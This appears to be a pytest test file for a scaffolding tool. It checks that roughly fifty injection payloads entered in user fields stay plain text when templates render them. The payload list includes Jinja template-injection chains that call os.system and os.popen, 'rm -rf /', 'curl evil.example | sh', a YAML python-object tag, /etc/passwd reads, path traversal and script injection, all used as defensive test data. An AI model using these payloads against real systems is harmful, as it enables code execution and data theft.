"""Whatever people type into any field stays text: fifty ways to make a template run something, in each."""

from __future__ import annotations

import ast
import html
import json
import re
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any

import msgspec
import pytest

from gitops.errors import LakeportError
from gitops.kind import Desired
from handlers import _scaffold_files as files
from handlers import scaffold
from handlers._scaffold_marker import Marker, context_of, parse
from handlers._scaffold_values import context
from tests.handlers.support import origin
from tests.support.templates import PROJECT, forget, template

PAYLOADS = [
    "{{ 7*7 }}",
    "{{7*'7'}}",
    "{{ cookiecutter }}",
    "{{ cookiecutter.text.purpose }}",
    "{{ cycler.__init__.__globals__.os.popen('touch pwned').read() }}",
    "{{ self.__init__.__globals__.__builtins__.__import__('os').system('touch pwned') }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "{{ request|attr('application') }}",
    "{{ joiner.__init__.__globals__.os.environ }}",
    "{{ namespace.__init__.__globals__ }}",
    "{{ config.items() }}",
    "{{ [].append(1) }}",
    "{{ 'x'|upper }}",
    "{{- 7*7 -}}",
    "{%- set x = 7*7 -%}{{ x }}",
    "{% for x in range(999999) %}x{% endfor %}",
    "{% include '/etc/passwd' %}",
    "{% import 'os' as os %}",
    "{% extends 'x' %}",
    "{% raw %}{{ x }}{% endraw %}",
    "{% endraw %}{{ 7*7 }}{% raw %}",
    "{% if true %}yes{% endif %}",
    "{% macro x() %}{% endmacro %}",
    "{% do x.append(1) %}",
    "{# comment #}",
    "{# unfinished",
    "{{ unfinished",
    "{% unfinished",
    "}} {{ 7*7 }} {{",
    "%} {% set x=1 %}",
    "{{ '{{' }} 7*7 {{ '}}' }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "${{ github.token }}",
    "${{ secrets.LAKEPORT }}",
    "$(touch pwned)",
    "`touch pwned`",
    "; rm -rf / #",
    "| tee /etc/passwd",
    "&& curl evil.example | sh",
    '"; import os; os.system("id"); "',
    "''' + __import__('os').popen('id').read() + '''",
    'x"\n[tool.evil]\nrun = "id',
    "x\n- run: curl evil.example",
    "!!python/object/apply:os.system [id]",
    "*anchor &anchor <<: *x",
    '{"$ref": "file:///etc/passwd"}',
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
    "%s%s%s %(x)s {0.__class__} {x!r}",
    "\\u007b\\u007b 7*7 \\u007d\\u007d",
    "\uff5b\uff5b 7*7 \uff5d\uff5d",
]
FIELDS = (
    "organisation",
    "team",
    "environment",
    "purpose",
    "technical_owner",
    "group",
    "github_team",
)
VALUES = ("organisation", "team", "environment", "purpose", "owner", "group", "github_team", "motto")
SPELLINGS = ("text", "quoted", "markdown")


def wanted(payload: str, *, inputs: Mapping[str, str]) -> Desired[Any]:
    spec = {"kind": "scaffold", "repo": "growth-churn", "template": "mine", "inputs": inputs}
    return Desired(
        spec=msgspec.convert(spec, scaffold.ScaffoldSpec), origin=origin(**dict.fromkeys(FIELDS, payload))
    )


@pytest.fixture(scope="module")
def rendered(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
    """Every payload in every field and every spelling, rendered in one go: path → text."""
    root = tmp_path_factory.mktemp("templates")
    patch = pytest.MonkeyPatch()
    template(root, "mine", {}, patch, motto="nothing")
    values: dict[str, str] = {}
    for number, payload in enumerate(PAYLOADS):
        said = context(wanted(payload, inputs={"motto": payload})).values
        values |= {f"{name}_{number}": said[name] for name in VALUES}
    made = {
        f"{spelling}/{name}": f"{{{{ cookiecutter.{spelling}.{name} }}}}"
        for spelling in SPELLINGS
        for name in values
    }
    monkey = patch
    monkey.setattr(files, "MAX_FILES", len(made) + 1)
    template(root, "mine", made, patch, motto="nothing")
    found = files.render("mine", {"project": "p", "package": "q", "values": values})
    yield {file.path: file.text for file in found}
    patch.undo()
    forget()


def test_there_are_fifty_of_them() -> None:
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 50


@pytest.mark.parametrize("number", range(len(PAYLOADS)), ids=lambda number: repr(PAYLOADS[number])[:40])
def test_it_stays_text(rendered: dict[str, str], number: int) -> None:
    said = files.plain(PAYLOADS[number])
    for name in VALUES:
        assert rendered[f"text/{name}_{number}"] == said
        assert ast.literal_eval(rendered[f"quoted/{name}_{number}"]) == said
        assert json.loads(rendered[f"quoted/{name}_{number}"]) == said
        shown = rendered[f"markdown/{name}_{number}"]
        assert re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", shown) == said
        assert not re.search(r"(?<!\\)[<`\[!]", shown)
        assert html.unescape(shown) == shown or "&" in said


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("key", ["project", "package"])
def test_it_is_no_name_of_a_folder(key: str, payload: str) -> None:
    names = {"project": "p", "package": "q", "values": {}} | {key: payload}
    with pytest.raises(LakeportError, match="cannot be the name of a folder"):
        files.render_folder(Path("/nowhere"), "mine", names)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_note_keeps_it_as_it_is(payload: str) -> None:
    given = {"project": "p", "package": "q", "values": {"purpose": payload}}
    assert parse(Marker(context=context_of(given)).text().encode()).context.values["purpose"] == payload


@pytest.mark.parametrize("payload", PAYLOADS)
def test_it_is_neither_a_repository_nor_a_template_nor_a_variable(payload: str) -> None:
    good = {"kind": "scaffold", "repo": "growth-churn", "template": "mine"}
    for wrong in ({"repo": payload}, {"template": payload}, {"inputs": {payload: "x"}}):
        with pytest.raises(msgspec.ValidationError):
            msgspec.convert(good | wrong, scaffold.ScaffoldSpec)


def test_the_templates_themselves_are_what_is_rendered(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """So that the tests above can fail: what stands in a template is run."""
    template(tmp_path, "mine", {"a.txt": "{{ 7*7 }}"}, monkeypatch)
    assert (tmp_path / "mine" / PROJECT / "a.txt").read_text() == "{{ 7*7 }}"
    (file,) = files.render("mine", {"project": "p", "package": "q", "values": {}})
    forget()
    assert file.text == "49"
